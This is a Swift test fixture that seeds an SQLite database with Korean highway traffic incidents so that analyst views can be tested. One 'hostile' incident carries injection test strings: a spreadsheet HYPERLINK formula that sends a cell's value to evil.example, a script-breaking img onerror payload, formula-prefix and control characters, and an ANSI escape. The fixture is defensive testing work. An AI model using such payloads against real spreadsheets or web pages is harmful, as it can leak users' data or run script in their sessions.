import Foundation
import IncidentCore
import IncidentSQLite
import TestSupport

/// A database for the analyst's views: one incident that changes every field kind over four
/// polls (then is cleared and reopened, with a record quarantined), one whose every text is
/// hostile (formula starts, markup that would end a script, control characters), and one
/// ended by the provider, far apart so that none of their markers cluster on a map.
enum AnalystFixture {
    static func instant(_ text: String) -> UTCInstant { UTCInstant(rfc3339: text)! }
    static let t0 = instant("2024-03-01T00:00:00Z"), t1 = instant("2024-03-01T01:00:00Z")
    static let t2 = instant("2024-03-01T02:00:00Z"), t3 = instant("2024-03-01T03:00:00Z")

    /// The changing incident (id 1), as first seen.
    static let accident = Incident(
        source: "gits", externalID: "202403010001", category: .accident, providerCategory: "사고",
        description: "[사고] 경부고속도로 (부산방향) 기흥IC → 오산IC  1차로 통제, 승용차 추돌로 후속 차량 정체가 이어지고 있으니 우회 바랍니다",
        road: "경부고속도로", location: "(부산방향) 기흥IC → 오산IC", restriction: "1차로",
        coordinate: Coordinate(latitude: 37.2, longitude: 127.1), linkID: "2000000001",
        startedAt: instant("2024-02-29T23:50:00Z"), confirmedAt: instant("2024-02-29T23:55:00Z"),
        expectedEndAt: instant("2024-03-01T02:00:00Z"))

    /// The hostile incident (id 2): every text starts like a formula or carries markup.
    static let hostile = Incident(
        source: "gits", externalID: "202403010002", category: .roadwork, providerCategory: "\r캐리지리턴",
        description: "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")", road: "+82 경부",
        location: "-1 km </script><img src=x onerror=\"document.body.dataset.pwned='yes'\"> '따옴표'",
        direction: "\t탭", restriction: "@SUM(1,2)", coordinate: Coordinate(latitude: 35.1, longitude: 129.0),
        startedAt: instant("2024-02-29T15:00:00Z"))

    /// Ended by the provider (id 3), never cleared.
    static let weather = Incident(
        source: "gits", externalID: "202403010003", category: .weather, providerCategory: "기상",
        description: "[기상] 영동고속도로 대관령 결빙", road: "영동고속도로", coordinate: Coordinate(latitude: 37.7, longitude: 128.7),
        startedAt: instant("2024-02-28T20:00:00Z"), endedAt: instant("2024-02-29T03:00:00Z"))

    /// The changes of the accident at t1: description, location, coordinates, expected end.
    static var changed: Incident {
        var i = accident
        i.description = "[사고] 경부고속도로 (부산방향) 오산IC → 안성IC  1,2차로 통제, 사고 처리가 남쪽으로 옮겨 가며 정체 구간이 늘어나고 있으니 우회 바랍니다"
        i.location = "(부산방향) 오산IC → 안성IC"
        i.coordinate = Coordinate(latitude: 37.15, longitude: 127.08)
        i.expectedEndAt = instant("2024-03-01T03:00:00Z")
        return i
    }

    /// Reopened at t3: the provider now gives an end time and no restriction.
    static var reopened: Incident {
        var i = changed
        i.restriction = nil
        i.endedAt = instant("2024-03-01T02:50:00Z")
        return i
    }

    static let rejection = RejectedRecord(externalID: accident.externalID, position: "itemList at line 7",
                                          reason: "coord_x is not a number", excerpt: "<coord_x>12\u{1B}[31m7.1</coord_x>")

    static func build(at path: String) throws {
        func poll(_ at: UTCInstant, _ incidents: [Incident], rejected: [RejectedRecord] = []) throws {
            let store = try SQLiteStore(path: path, clock: .fixed(at))
            _ = try store.ingest(PollContext(source: "gits", startedAt: at),
                                 QueryFixture.Producer(incidents: incidents, rejected: rejected).callAsFunction)
        }
        try poll(t0, [accident, hostile, weather])
        try poll(t1, [changed, hostile, weather], rejected: [rejection])
        try poll(t2, [hostile, weather])  // the accident is not listed: cleared
        try poll(t3, [reopened, hostile, weather])
    }

    static let database: String = {
        let path = (try? TestPaths.temporaryDirectory("analyst"))!.appendingPathComponent("analyst.sqlite").path
        try? build(at: path)
        return path
    }()
}
